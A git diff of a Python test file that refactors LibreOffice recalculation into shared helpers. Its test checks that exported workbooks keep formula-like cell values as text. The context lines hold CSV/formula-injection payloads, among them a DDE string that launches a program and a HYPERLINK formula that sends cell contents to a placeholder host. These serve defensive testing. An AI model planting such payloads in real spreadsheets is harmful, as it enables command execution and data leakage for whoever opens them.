@@ -3,8 +3,6 @@
 from __future__ import annotations
 
 import csv
-import shutil
-import subprocess
 import zipfile
 from collections.abc import Callable, Iterator
 from datetime import date
@@ -15,9 +13,9 @@ import openpyxl
 import pytest
 
 from rpt.commands import run
+from tests.office import needs_office, reopened
 from tests.projects import daily, project
 
-SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 CANARY = "cmd|' /C calc'!A0"
 CHANNEL, PLATFORM, PRODUCT = f"={CANARY}", "+2+3", '=HYPERLINK("http://a.invalid/?"&A1,"点我")'
 OWNER, MEASURE, NOTE = "@SUM(1+1)", "-1+1", "{=1+1}"
@@ -109,13 +107,7 @@ def check(path: Path) -> int:
 
 def recalculated(path: Path, folder: Path) -> dict[tuple[str, str], Any]:
     """Every cell of a workbook as LibreOffice calculates it."""
-    profile = (folder / "profile").as_uri()
-    subprocess.run(
-        [str(SOFFICE), "--headless", "--norestore", f"-env:UserInstallation={profile}", "--convert-to",
-         "xlsx:Calc MS Excel 2007 XML", "--outdir", str(folder / "calc"), str(path)],
-        check=True, capture_output=True, timeout=180,
-    )  # fmt: skip
-    book = openpyxl.load_workbook(folder / "calc" / path.name, data_only=True)
+    book = openpyxl.load_workbook(reopened(path, folder / "calc"), data_only=True)
     return {(s.title, c.coordinate): c.value for s in book.worksheets for row in s.iter_rows() for c in row}
 
 
@@ -125,7 +117,7 @@ def test_report_and_plan_hold_texts_that_look_like_formulas(shop: Path) -> None:
         assert check(made) > 3, stem
 
 
-@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
+@needs_office
 def test_libreoffice_leaves_them_as_text(shop: Path, tmp_path: Path) -> None:
     path = shop / "out" / "annual-2025.xlsx"
     shown = recalculated(path, tmp_path)
